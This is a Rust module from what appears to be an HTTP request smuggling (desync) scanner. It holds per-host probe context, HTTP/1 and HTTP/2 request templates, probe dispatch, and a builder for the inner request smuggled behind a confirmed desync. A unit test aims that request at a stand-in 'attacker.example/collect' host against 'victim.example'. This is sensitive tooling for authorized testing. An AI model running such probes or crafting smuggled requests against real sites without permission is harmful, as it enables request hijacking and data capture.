use std::path::PathBuf;
use std::sync::Arc;
use std::time::Instant;

use desync_core::classify::{Outcome, classify};
use desync_core::endpoint::Endpoint;
use desync_core::settings::{Priority, Settings};
use desync_h1::Payload;
use desync_h2::H2Request;
use tokio::sync::{mpsc, watch};
use tracing::debug;

pub(crate) const USER_AGENT: &str =
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:132.0) Gecko/20100101 Firefox/132.0";

/// Everything a probe needs to know about the host under test. Built once
/// after cookie acquisition and read-only while probes run; the only writer
/// of the cancellation flag is the orchestrator.
pub struct HostCtx {
    pub endpoint: Endpoint,
    pub method: String,
    /// Per-target body from the JSON input format.
    pub body: Vec<u8>,
    /// Target-specific extra headers (JSON input, Basic auth from userinfo).
    pub headers: Vec<(String, String)>,
    pub cookies: Vec<(String, String)>,
    pub h1_supported: bool,
    pub h2_supported: bool,
    pub settings: Arc<Settings>,
    /// Directory under which the `result/<host>/` report tree is written.
    pub out_root: PathBuf,
    /// Inner request target woven into generated PoC payloads.
    pub dest: Option<Endpoint>,
    cancel: watch::Receiver<bool>,
    findings: mpsc::Sender<()>,
}

/// The orchestrator's ends of the per-host channels.
pub struct HostControl {
    pub cancel: watch::Sender<bool>,
    pub findings: mpsc::Receiver<()>,
}

impl HostCtx {
    pub fn new(
        endpoint: Endpoint,
        method: String,
        settings: Arc<Settings>,
        out_root: PathBuf,
    ) -> (Self, HostControl) {
        let (cancel_tx, cancel_rx) = watch::channel(false);
        let (find_tx, find_rx) = mpsc::channel(1);
        (
            HostCtx {
                endpoint,
                method,
                body: Vec::new(),
                headers: Vec::new(),
                cookies: Vec::new(),
                h1_supported: true,
                h2_supported: true,
                settings,
                out_root,
                dest: None,
                cancel: cancel_rx,
                findings: find_tx,
            },
            HostControl {
                cancel: cancel_tx,
                findings: find_rx,
            },
        )
    }

    /// Cooperative cancellation check, polled between generator candidates.
    pub fn cancelled(&self) -> bool {
        *self.cancel.borrow()
    }

    /// Signal a finding. The channel holds one slot and the send never
    /// blocks; peers only care that it fired at least once.
    pub fn signal_finding(&self) {
        let _ = self.findings.try_send(());
    }

    /// The H1 request template every probe mutates a copy of.
    pub fn base_payload(&self, hdr_line: Option<Vec<u8>>) -> Payload {
        let mut p = Payload::new(self.method.clone(), self.endpoint.path.clone());
        p.query = self.endpoint.query.clone();
        p.set_header("Host", &self.endpoint.authority());
        p.set_header("User-Agent", USER_AGENT);
        p.set_header("Connection", "keep-alive");
        p.set_header("Content-Type", "application/x-www-form-urlencoded");
        for (name, value) in &self.headers {
            p.set_header(name, value);
        }
        if !self.cookies.is_empty() {
            p.set_header("Cookie", &self.cookie_header());
        }
        p.hdr_payload = hdr_line;
        p
    }

    /// The H2 request template. Host and Connection are left out; `:authority`
    /// covers the former and the latter is illegal on the wire here.
    pub fn base_h2_request(&self, extra: Option<(Vec<u8>, Vec<u8>)>) -> H2Request {
        let mut req = H2Request::new(&self.endpoint, self.method.clone());
        req.headers.push(("user-agent".into(), USER_AGENT.into()));
        req.headers.push((
            "content-type".into(),
            "application/x-www-form-urlencoded".into(),
        ));
        for (name, value) in &self.headers {
            if name.eq_ignore_ascii_case("host") || name.eq_ignore_ascii_case("connection") {
                continue;
            }
            req.headers.push((name.clone(), value.clone()));
        }
        if !self.cookies.is_empty() {
            req.headers.push(("cookie".into(), self.cookie_header()));
        }
        req.extra = extra;
        req
    }

    fn cookie_header(&self) -> String {
        self.cookies
            .iter()
            .map(|(n, v)| format!("{n}={v}"))
            .collect::<Vec<_>>()
            .join("; ")
    }

    /// The inner request smuggled behind a confirmed desync. Uses the
    /// configured out-of-band destination when present, the probed host
    /// otherwise.
    pub fn smuggled_inner(&self, default_path: &str, trailer: &str) -> Vec<u8> {
        let (host, path) = match &self.dest {
            Some(d) => (d.authority(), d.path.clone()),
            None => (self.endpoint.authority(), default_path.to_string()),
        };
        format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 50\r\n\r\n{trailer}")
            .into_bytes()
    }
}

/// Send one H1 payload and classify the outcome. The cache-buster is
/// regenerated first so consecutive sends never share a token.
pub(crate) async fn send_h1(ctx: &HostCtx, payload: &mut Payload) -> (Outcome, Option<u16>) {
    payload.bust();
    let raw = payload.to_bytes();
    let started = Instant::now();
    let result = desync_h1::round_trip(&ctx.endpoint, &raw, ctx.settings.timeout).await;
    let reply = match &result {
        Ok(r) => Ok(r.sample()),
        Err(e) => Err(e),
    };
    let outcome = classify(started.elapsed(), ctx.settings.timeout, reply);
    if outcome == Outcome::SocketError
        && let Err(e) = &result
    {
        debug!(endpoint = %ctx.endpoint, error = %e, "probe send failed");
    }
    (outcome, result.as_ref().ok().map(|r| r.status))
}

/// Send one H2 request and classify the outcome.
pub(crate) async fn send_h2(ctx: &HostCtx, req: &mut H2Request) -> Outcome {
    req.bust();
    let started = Instant::now();
    let result = desync_h2::round_trip(req).await;
    let reply = match &result {
        Ok(r) => Ok(r.sample()),
        Err(e) => Err(e),
    };
    let outcome = classify(started.elapsed(), ctx.settings.timeout, reply);
    if outcome == Outcome::SocketError
        && let Err(e) = &result
    {
        debug!(endpoint = %ctx.endpoint, error = %e, "h2 probe send failed");
    }
    outcome
}

/// The three probe families. The priority permutation turns into an ordered
/// list of these.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ProbeKind {
    Cl,
    Te,
    H2,
}

impl ProbeKind {
    pub fn name(self) -> &'static str {
        match self {
            ProbeKind::Cl => "CL",
            ProbeKind::Te => "TE",
            ProbeKind::H2 => "H2",
        }
    }

    /// Run the family against a host. Returns true when a finding was
    /// reported; false also covers cancellation.
    pub async fn run(self, ctx: &HostCtx) -> bool {
        match self {
            ProbeKind::Cl => crate::cl::run(ctx).await,
            ProbeKind::Te => crate::te::run(ctx).await,
            ProbeKind::H2 => crate::h2::run(ctx).await,
        }
    }
}

pub fn probe_order(priority: Priority) -> [ProbeKind; 3] {
    match priority {
        Priority::ClTeH2 => [ProbeKind::Cl, ProbeKind::Te, ProbeKind::H2],
        Priority::ClH2Te => [ProbeKind::Cl, ProbeKind::H2, ProbeKind::Te],
        Priority::TeClH2 => [ProbeKind::Te, ProbeKind::Cl, ProbeKind::H2],
        Priority::TeH2Cl => [ProbeKind::Te, ProbeKind::H2, ProbeKind::Cl],
        Priority::H2ClTe => [ProbeKind::H2, ProbeKind::Cl, ProbeKind::Te],
        Priority::H2TeCl => [ProbeKind::H2, ProbeKind::Te, ProbeKind::Cl],
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use desync_core::settings::Method;

    fn make_ctx(url: &str) -> (HostCtx, HostControl) {
        let endpoint = Endpoint::parse(url).unwrap();
        let settings = Arc::new(Settings::default());
        HostCtx::new(
            endpoint,
            Method::Post.as_str().to_string(),
            settings,
            PathBuf::from("."),
        )
    }

    #[test]
    fn test_probe_order_covers_all_permutations() {
        assert_eq!(
            probe_order(Priority::ClTeH2),
            [ProbeKind::Cl, ProbeKind::Te, ProbeKind::H2]
        );
        assert_eq!(
            probe_order(Priority::TeH2Cl),
            [ProbeKind::Te, ProbeKind::H2, ProbeKind::Cl]
        );
        assert_eq!(
            probe_order(Priority::H2TeCl),
            [ProbeKind::H2, ProbeKind::Te, ProbeKind::Cl]
        );
    }

    #[test]
    fn test_base_payload_carries_host_and_cookies() {
        let (mut ctx, _control) = make_ctx("https://example.com:8443/app?x=1");
        ctx.cookies = vec![("sid".into(), "abc".into()), ("theme".into(), "dark".into())];
        let p = ctx.base_payload(None);

        let headers = p.headers();
        assert!(headers.iter().any(|(n, v)| n == "Host" && v == "example.com:8443"));
        assert!(headers.iter().any(|(n, v)| n == "Cookie" && v == "sid=abc; theme=dark"));
        assert_eq!(p.query.as_deref(), Some("x=1"));
    }

    #[test]
    fn test_base_h2_request_filters_connection_headers() {
        let (mut ctx, _control) = make_ctx("https://example.com/");
        ctx.headers = vec![
            ("Connection".into(), "close".into()),
            ("X-Api-Key".into(), "k".into()),
        ];
        let req = ctx.base_h2_request(None);
        assert!(!req.headers.iter().any(|(n, _)| n.eq_ignore_ascii_case("connection")));
        assert!(req.headers.iter().any(|(n, _)| n == "X-Api-Key"));
    }

    #[test]
    fn test_smuggled_inner_prefers_dest() {
        let (mut ctx, _control) = make_ctx("https://victim.example/");
        let inner = ctx.smuggled_inner("/404", "X=");
        let text = String::from_utf8(inner).unwrap();
        assert!(text.starts_with("GET /404 HTTP/1.1\r\nHost: victim.example\r\n"));
        assert!(text.ends_with("\r\n\r\nX="));

        ctx.dest = Some(Endpoint::parse("https://attacker.example/collect").unwrap());
        let inner = String::from_utf8(ctx.smuggled_inner("/404", "")).unwrap();
        assert!(inner.starts_with("GET /collect HTTP/1.1\r\nHost: attacker.example\r\n"));
    }

    #[test]
    fn test_cancellation_flag_is_observed() {
        let (ctx, control) = make_ctx("https://example.com/");
        assert!(!ctx.cancelled());
        control.cancel.send(true).unwrap();
        assert!(ctx.cancelled());
    }

    #[test]
    fn test_finding_channel_has_one_slot() {
        let (ctx, mut control) = make_ctx("https://example.com/");
        ctx.signal_finding();
        ctx.signal_finding();
        ctx.signal_finding();
        assert!(control.findings.try_recv().is_ok());
        assert!(control.findings.try_recv().is_err());
    }
}
